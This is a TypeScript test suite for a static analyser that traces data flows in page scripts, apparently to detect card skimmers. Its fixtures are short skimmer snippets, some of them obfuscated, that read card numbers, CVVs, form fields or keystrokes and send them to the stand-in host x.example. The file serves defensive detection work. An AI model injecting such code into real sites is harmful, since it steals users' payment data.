import assert from 'node:assert/strict';
import type { CallExpression, Expression, ExpressionStatement } from 'acorn';
import { parseScript } from '../../../../analyzer/parse/index.ts';
import { analyseFlow } from '../../../../analyzer/static/flow/index.ts';
import { resolveScopes } from '../../../../analyzer/static/scope/index.ts';
import { flattenTree } from '../../../../analyzer/static/tree/index.ts';
import { analyse, flowLines } from './analyse.ts';

/** One script, the flows it has. Hosts are under .example, so that nothing here could ever be asked. */
const cases: Record<string, [string, string[]]> = {
  'a value read in a listener': [
    `document.querySelector('#cc-number').addEventListener('change', function () { fetch('https://x.example/c?d=' + btoa(this.value)) })`,
    ['#cc-number > base64 > fetch x.example'],
  ],
  'aliases and computed names': [
    `var d=document,q='querySelectorAll',o={};d[q]('input').forEach(function(i){o[i.name]=i.value});navigator.sendBeacon('https://x.example/x', JSON.stringify(o))`,
    ['* > json > beacon x.example'],
  ],
  'a loop, a function result and an image': [
    `function c(){var s='',i=document.querySelectorAll('input, select');for(var k=0;k<i.length;k++){s+=i[k].name+'='+i[k].value}return s}(new Image).src='https://'+'x'+'.example/p.gif?'+encodeURIComponent(c())`,
    ['* > url > image x.example'],
  ],
  'key presses to a socket': [
    `var ws=new WebSocket('wss://x.example/k');document.addEventListener('keydown',e=>{ws.send(e.key)})`,
    ['* > plain > websocket x.example'],
  ],
  'a form serialised by jQuery': [
    `jQuery(function($){$('#f').on('submit',function(){$.post('https://x.example/a',$(this).serialize())})})`,
    ['* > plain > jquery-ajax x.example'],
  ],
  'XMLHttpRequest, opened and sent': [
    `var r=new XMLHttpRequest;r.open('POST','//x.example/r');r.send('n='+document.getElementById('cc').value)`,
    ['#cc > plain > xhr x.example'],
  ],
  'a parameter that names the field': [
    `function v(id){var e=document.getElementById(id);return e?e.value.trim():''}fetch('https://x.example/',{method:'POST',body:JSON.stringify({n:v('card'),c:v('cvv')})})`,
    ['#card, #cvv > json > fetch x.example'],
  ],
  'an address handed over as an argument': [
    `function send(u,d){fetch(u,{method:'POST',body:d})}send('https://x.example/c',document.getElementById('cvc').value)`,
    ['#cvc > plain > fetch x.example'],
  ],
  'FormData of a form': [
    `document.forms[0].onsubmit=function(){navigator.sendBeacon('https://x.example/f',new FormData(this))}`,
    ['* > plain > beacon x.example'],
  ],
  'web storage as a stop on the way': [
    `localStorage.setItem('k',document.getElementById('cc').value);setTimeout(function(){fetch('https://x.example/?'+localStorage.getItem('k'))},9)`,
    ['#cc, storage > plain > fetch x.example'],
  ],
  'a property of this': [
    `var s={data:'',get:function(){this.data=document.getElementById('cc').value},go:function(){fetch('https://x.example/?'+this.data)}}`,
    ['#cc > plain > fetch x.example'],
  ],
  'destructuring and template literals': [
    'const {value}=document.querySelector("[name=cvv]");fetch(`https://x.example/${value}`)',
    ['[name=cvv] > plain > fetch x.example'],
  ],
  'an array that is filled and joined': [
    `var a=[];document.querySelectorAll('input').forEach(i=>a.push(i.name+'='+i.value));new Image().src='//x.example/?'+a.join('&')`,
    ['* > plain > image x.example'],
  ],
  'a custom encoder': [
    `function xorEncrypt(t){var r='';for(var i=0;i<t.length;i++)r+=String.fromCharCode(t.charCodeAt(i)^7);return r}fetch('https://x.example/',{body:xorEncrypt(document.getElementById('cc').value)})`,
    ['#cc > char-codes+encrypt > fetch x.example'],
  ],
  'a string array behind a reader': [
    `var a=['value','getElementById','https://x.example/c'];function r(i){return a[i-3]}fetch(r(5)+document[r(4)]('cc')[r(3)])`,
    ['#cc > plain > fetch x.example'],
  ],
  'hexadecimal escapes': [
    `var a=["\\x76\\x61\\x6c","\\x23\\x63\\x63"];jQuery.post("\\x2f\\x2fx.example",jQuery(a[1])[a[0]]())`,
    ['#cc > plain > jquery-ajax x.example'],
  ],
  'an address decoded from base64': [
    `fetch(atob('aHR0cHM6Ly94LmV4YW1wbGUvYw=='),{body:document.getElementById('cc').value})`,
    ['#cc > plain > fetch x.example'],
  ],
  'a script element as a way out': [
    `var s=document.createElement('script');s.src='https://x.example/j?'+document.getElementById('cc').value;document.head.appendChild(s)`,
    ['#cc > plain > script x.example'],
  ],
  'an attribute set by name': [
    `var i=document.createElement('img');i.setAttribute('src','https://x.example/p?'+document.getElementById('cc').value)`,
    ['#cc > plain > image x.example'],
  ],
  'HTML that asks for an address': [
    `document.body.innerHTML+='<img src="https://x.example/p?'+document.getElementById('cc').value+'">'`,
    ['#cc > plain > image x.example'],
  ],
  'a callback of a promise': [
    `Promise.resolve(document.getElementById('cc').value).then(v=>fetch('https://x.example/?'+v))`,
    ['#cc > plain > fetch x.example'],
  ],
  'a class': [
    `class S{constructor(){this.v=document.getElementById('cc').value}go(){fetch('https://x.example/?'+this.v)}}`,
    ['#cc > plain > fetch x.example'],
  ],
  'a named field of a form': [
    `fetch('https://x.example/?'+document.forms[0].cardnumber.value)`,
    ['cardnumber > plain > fetch x.example'],
  ],
  'implicit globals': [
    `n=document.getElementById('cc').value;u='https://x.example/?'+n;fetch(u)`,
    ['#cc > plain > fetch x.example'],
  ],
  'nothing when only lengths leave': [
    `fetch('https://x.example/?'+document.getElementById('cc').value.length)`,
    [],
  ],
  'nothing when data and address do not meet': [
    `var a=document.getElementById('cc').value;check(a);fetch('https://x.example/')`,
    [],
  ],
  'nothing when another property leaves': [
    `var o={};o.a=document.getElementById('cc').value;o.b='x';fetch('https://x.example/?'+o.b)`,
    [],
  ],
};

describe('analyseFlow', () => {
  for (const [title, [script, expected]] of Object.entries(cases))
    it(`follows ${title}`, () => assert.deepEqual(flowLines(script), expected));

  it('gives the same answer twice', () => {
    const script = Object.values(cases)
      .map(([text]) => `{${text}}`)
      .join('\n');
    const plain = (text: string) => {
      const { behaviour, evidence } = analyse(text);
      return { behaviour, evidence };
    };
    assert.deepEqual(plain(script), plain(script));
  });

  it('survives an expression of 100,000 terms', () => {
    // Parsing one needs a large stack, so the tree is put together here.
    const text = "fetch('https://x.example/' + v)";
    const program = parseScript(text).program!;
    const call = (program.body[0] as ExpressionStatement).expression as CallExpression;
    for (let term = 0; term < 100_000; term++) {
      const [left] = call.arguments as Expression[];
      const { start, end } = left!;
      const right: Expression = { type: 'Literal', value: 'x', raw: "'x'", start, end };
      call.arguments[0] = { type: 'BinaryExpression', operator: '+', left: left!, right, start, end };
    }
    const tree = flattenTree(program);
    const { behaviour } = analyseFlow(tree, text, resolveScopes(tree));
    assert.deepEqual(behaviour.hosts, ['x.example']);
  });

  it('says when its budget ended the search', () => {
    const calls = Array.from({ length: 2000 }, (_, index) => `f${index}(v)`).join(';');
    const functions = Array.from(
      { length: 2000 },
      (_, i) => `function f${i}(x){f${(i + 1) % 2000}(x);g(x,x)}`,
    );
    const script = `var v=document.getElementById('cc').value;${functions.join('')}${calls};fetch('https://x.example/?'+v)`;
    assert.equal(typeof analyse(script).partial, 'boolean');
  });
});
